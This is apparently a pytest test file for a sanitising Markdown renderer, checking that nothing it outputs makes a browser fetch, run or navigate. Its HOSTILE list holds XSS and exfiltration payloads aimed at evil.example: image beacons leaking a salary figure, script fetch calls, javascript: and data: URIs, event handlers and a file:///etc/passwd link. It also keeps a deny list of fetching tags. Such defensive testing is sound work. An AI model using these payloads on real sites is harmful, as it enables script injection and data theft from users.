"""The subset of Markdown that reaches the page, and all that must not."""

from __future__ import annotations

import re
from html.parser import HTMLParser

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from ui.components.markup import Markup, tag
from ui.components.safe_markdown import Highlight, to_markup

HOSTILE = [
    "![a](http://evil.example/x?salary=182000)",
    "![a](//evil.example/x)",
    "[![](http://evil.example/a)](http://evil.example/b)",
    "![a][ref]\n\n[ref]: http://evil.example/x",
    "![ref]\n\n[ref]: http://evil.example/x",
    "[1]\n\n[1]: http://evil.example/x",
    '<img src="http://evil.example/x">',
    "<img src=http://evil.example/x onerror=alert(1)>",
    "text <img\nsrc='http://evil.example/x'> text",
    "<div>\n<iframe src='http://evil.example'></iframe>\n</div>",
    "<style>body{background:url(http://evil.example/x)}</style>",
    "<link rel=stylesheet href=//evil.example/x>",
    "<script>fetch('http://evil.example')</script>",
    "<svg onload=alert(1)><image href='http://evil.example/x'/></svg>",
    "<video poster=//evil.example/x></video><audio src=//evil.example/y autoplay>",
    "<meta http-equiv=refresh content='0;url=http://evil.example'>",
    "<base href='http://evil.example/'>",
    "<form action=http://evil.example><input type=image src=//evil.example/x></form>",
    "[click](javascript:alert(1))",
    "[click](JaVaScRiPt:alert(1))",
    "[click](data:text/html;base64,PHNjcmlwdD4=)",
    "[click](vbscript:msgbox)",
    "[click](file:///etc/passwd)",
    "[click](http://evil.example/x?salary=182000)",
    "[click](//evil.example/x)",
    "[click](/_stcore/health)",
    "<http://evil.example/auto>",
    "http://evil.example/bare www.evil.example mail@evil.example",
    "[^1]\n\n[^1]: ![x](http://evil.example/foot)",
    "&lt;img src=http://evil.example/x&gt;",
    "&#60;img src=http://evil.example/x&#62;",
    "&#33;&#91;a](http://evil.example)",
    "!\\[a](http://evil.example/x)",
    "**![a](http://evil.example/x)** *[![b](//evil.example)](//evil.example)*",
    "> - ![a](http://evil.example/x)\n>   1. <img src=//evil.example>",
    "| a |\n|---|\n| ![x](http://evil.example/cell) |",
    "# ![x](http://evil.example/h)",
    "```html\n<img src=http://evil.example/x>\n```",
    "`<img src=http://evil.example/x>`",
    '[x](https://guide.example/pay "onmouseover=alert(1)")',
    "[x](https://guide.example/pay?salary=182000)",
    '[x](https://guide.example/"onclick="alert(1))',
    "$$\\href{http://evil.example}{x}$$ $\\includegraphics{http://evil.example/x}$",
    ":material/home: :red[x] :blue-background[y] :smile: :streamlit:",
    "\x00\u202e![a](http://evil.example)\u2066",
    "\ue000![a](http://evil.example)\ue001",
]
ALLOWED_LINK = "https://guide.example/pay"
FETCHING = {
    "img",
    "iframe",
    "script",
    "style",
    "link",
    "video",
    "audio",
    "source",
    "object",
    "embed",
    "svg",
    "image",
}
FETCHING |= {"form", "input", "meta", "base", "picture", "track", "frame", "portal", "math"}
HARMLESS = {"class", "id", "href", "target", "rel", "start", "scope", "aria-label", "aria-hidden", "role"}


class Reader(HTMLParser):
    """Reads markup as a browser would: its tags with their attributes, and its text."""

    def __init__(self, markup: str) -> None:
        super().__init__()
        self.tags: list[tuple[str, dict[str, str | None]]] = []
        self.words = ""
        self.feed(markup)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, dict(attrs)))

    def handle_data(self, data: str) -> None:
        self.words += data


def assert_harmless(markup: str) -> None:
    """Nothing in the markup makes a browser fetch, run or lead away."""
    for name, attributes in Reader(markup).tags:
        assert name not in FETCHING
        assert set(attributes) <= HARMLESS
        link = attributes.get("href")
        assert link is None or link == ALLOWED_LINK or link.startswith("#")


@pytest.mark.parametrize("text", HOSTILE)
def test_a_hostile_text_makes_a_browser_fetch_nothing(text: str) -> None:
    assert_harmless(to_markup(text, links={ALLOWED_LINK}))


@pytest.mark.parametrize("text", HOSTILE)
def test_a_hostile_text_stays_harmless_inside_other_markdown(text: str) -> None:
    assert_harmless(to_markup(f"Before **bold {text}** after\n\n{text}\n\n- {text}", links={ALLOWED_LINK}))


@settings(max_examples=150, deadline=None)
@given(st.lists(st.sampled_from([*"<>[]()!&#*_`|:\"'\\/= \n", "img src=", "http://evil.example", "x"]), max_size=40))
def test_no_mix_of_signs_becomes_a_tag_that_fetches(pieces: list[str]) -> None:
    text = "".join(pieces)
    assert_harmless(to_markup(text, links={ALLOWED_LINK}, marked=[Highlight(0, len(text) // 2)]))


def test_an_image_leaves_its_words_only() -> None:
    assert to_markup("a ![the chart](http://evil.example/x) b") == "<p>a the chart b</p>"


def test_raw_html_is_shown_as_the_text_it_is() -> None:
    assert Reader(to_markup("<b>bold</b>")).words == "<b>bold</b>"


def test_a_link_elsewhere_becomes_its_words_with_the_host_it_led_to() -> None:
    assert to_markup("[pay](https://evil.example/x?y=1)") == "<p>pay (evil.example)</p>"


def test_a_link_to_a_given_address_stays_a_link() -> None:
    markup = to_markup("[pay](https://guide.example/pay)", links={ALLOWED_LINK})
    assert Reader(markup).tags[1][1]["href"] == ALLOWED_LINK


@pytest.mark.parametrize(
    "text",
    [
        "$5 to $10 and $x$",
        "$$x$$",
        ":material/home:",
        ":red[x]",
        ":smile:",
        ":streamlit:",
        "a -> b <- c",
        "^x^ ==y==",
    ],
)
def test_what_the_page_library_would_interpret_stays_as_written(text: str) -> None:
    assert Reader(to_markup(text)).words == text


def test_tables_lists_quotes_and_code_come_through() -> None:
    markup = to_markup("| a | b |\n|---|--:|\n| 1 | 2 |\n\n1. x\n2. y\n\n- z\n\n> q\n\n`c` *e* ~~s~~\n\n    pre")
    names = [name for name, _ in Reader(markup).tags]
    assert {"table", "th", "td", "ol", "ul", "li", "blockquote", "code", "em", "s", "pre"} <= set(names)
    assert markup.count('class="pl-right"') == 2


def test_headings_start_below_those_of_the_page() -> None:
    assert to_markup("# one\n\n## two") == "<h3>one</h3><h4>two</h4>"


def test_a_known_marker_becomes_a_link_and_others_stay_text() -> None:
    def cite(n: int) -> Markup | None:
        return tag("a", str(n), href=f"#s{n}") if n == 1 else None

    assert to_markup("see [1], [2]", cite=cite) == '<p>see <a href="#s1">1</a>, [2]</p>'


@pytest.mark.parametrize(
    ("text", "quote"),
    [
        ("One. Two is here. Three.", "Two is here."),
        ("Ask for **a base** and stock.", "for **a base** and"),
        ("- first point\n- second point", "- second point"),
        ("1. first\n2. second one", "2. second one"),
        ("> quoted words here", "quoted words"),
        ("a first paragraph\n\na second one", "paragraph\n\na second"),
    ],
)
def test_a_highlight_covers_the_words_and_keeps_the_structure(text: str, quote: str) -> None:
    start = text.index(quote)
    markup = to_markup(text, marked=[Highlight(start, start + len(quote))])
    marked = "".join(re.findall(r"<mark>(.*?)</mark>", markup.replace("<strong>", "").replace("</strong>", "")))
    bare = re.sub(r"^(- |\d\. )", "", quote).replace("*", "").replace("\n\n", "")
    assert re.sub(r"</?mark>", "", marked) == bare
    assert re.sub(r"</?mark>", "", markup) == to_markup(text)


def test_a_text_without_end_is_cut_and_read_in_time() -> None:
    assert len(to_markup("[![*_`" * 100_000)) < 1_500_000


def test_amounts_become_what_they_lead_to_but_in_tables_links_and_other_sizes() -> None:
    def lead(amount: str) -> Markup | None:
        return tag("a", amount, href="#math")

    text = "**$297,000.** or CHF 1,200.50, [$5](https://x.example/) and $2 million\n\n| a |\n|---|\n| $6 |\n"
    markup = to_markup(text, links=["https://x.example/"], sums=lead)
    assert re.findall(r'href="#math">([^<]+)', markup) == ["$297,000", "CHF 1,200.50"]
    assert to_markup(text, links=["https://x.example/"]).count("<a") == 1
